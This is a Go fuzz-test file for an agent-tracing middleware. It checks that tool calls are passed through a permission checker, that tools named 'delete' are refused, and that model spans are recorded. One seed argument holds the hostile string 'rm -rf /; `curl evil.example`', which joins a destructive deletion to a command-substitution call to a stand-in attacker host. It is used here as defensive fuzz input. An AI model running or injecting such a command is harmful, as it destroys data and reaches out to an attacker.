package einospan_test

import (
	"context"
	"strings"
	"testing"

	"github.com/cloudwego/eino/callbacks"
	"github.com/cloudwego/eino/components"
	"github.com/cloudwego/eino/components/model"
	"github.com/cloudwego/eino/compose"
	"github.com/cloudwego/eino/schema"

	"github.com/ambit-go/ambit/agentspan"
	"github.com/ambit-go/ambit/agentspan/agentspantest"
	"github.com/ambit-go/ambit/agentspan/einospan"
	"github.com/ambit-go/ambit/boundary"
)

// Whatever a model calls, and with whatever arguments, is decided about as what the
// tool gets, and is recorded by the conventions.
func FuzzCall(f *testing.F) {
	f.Add("read_file", `{"path":"a.txt"}`, "call_0", "contents")
	f.Add("delete_file", `{"path":`, "", "")
	f.Add("", "null", "\x00", "\xff")
	f.Add("bash\n", `[1,"\ud800"]`, strings.Repeat("c", 300), token())
	f.Add(strings.Repeat("n", 2000), `{"command":"rm -rf /; `+"`curl evil.example`"+`"}`, "\u202e", "}")
	f.Fuzz(func(t *testing.T, name, arguments, id, result string) {
		var saw boundary.Request
		tracer, rec := agentspantest.New(t, agentspan.WithChecker(boundary.CheckerFunc(func(_ context.Context, r boundary.Request) (boundary.Decision, error) {
			saw = r
			if strings.Contains(r.Tool, "delete") {
				return boundary.Decision{}, nil
			}
			return boundary.Decision{Verdict: boundary.Allow}, nil
		})))
		ctx := session(t, tracer)
		got := ""
		out, err := einospan.ToolMiddleware(tracer).Invokable(func(_ context.Context, in *compose.ToolInput) (*compose.ToolOutput, error) {
			got = in.Arguments
			return &compose.ToolOutput{Result: result}, nil
		})(ctx, &compose.ToolInput{Name: name, Arguments: arguments, CallID: id})
		if err != nil || out == nil {
			t.Fatalf("the middleware answered %v, %v", out, err)
		}
		refused := strings.Contains(name, "delete")
		if refused && (got != "" || out.Result == result && result != "") || !refused && (got != arguments || out.Result != result) {
			t.Errorf("refused %v, the tool got %q and the model reads %q", refused, got, out.Result)
		}
		if string(saw.Arguments) != arguments {
			t.Errorf("decided about %q, and called with %q", saw.Arguments, arguments)
		}
		conforms(t, rec)
	})
}

// Whatever a model says of itself is recorded by the conventions.
func FuzzModel(f *testing.F) {
	f.Add("Claude", "claude-x", "hello", "stop", 3, -1)
	f.Add("\x00", token(), "\xff", strings.Repeat("r", 3000), 1<<62, 0)
	f.Fuzz(func(t *testing.T, typ, name, content, reason string, in, out int) {
		tracer, rec := agentspantest.New(t)
		h := einospan.NewHandler(tracer)
		ctx := session(t, tracer)
		run := &callbacks.RunInfo{Name: name, Type: typ, Component: compose.ComponentOfGraph}
		info := &callbacks.RunInfo{Name: name, Type: typ, Component: components.ComponentOfChatModel}
		ctx = h.OnStart(ctx, run, []*schema.Message{nil, schema.UserMessage(content)})
		under := h.OnStart(ctx, info, &model.CallbackInput{Config: &model.Config{Model: name}})
		h.OnEnd(under, info, &model.CallbackOutput{Message: &schema.Message{
			Content: content, ResponseMeta: &schema.ResponseMeta{FinishReason: reason, Usage: &schema.TokenUsage{PromptTokens: in, CompletionTokens: out}},
		}})
		h.OnEnd(ctx, run, content)
		if len(rec.Spans()) != 2 {
			t.Errorf("%d spans", len(rec.Spans()))
		}
		conforms(t, rec)
	})
}
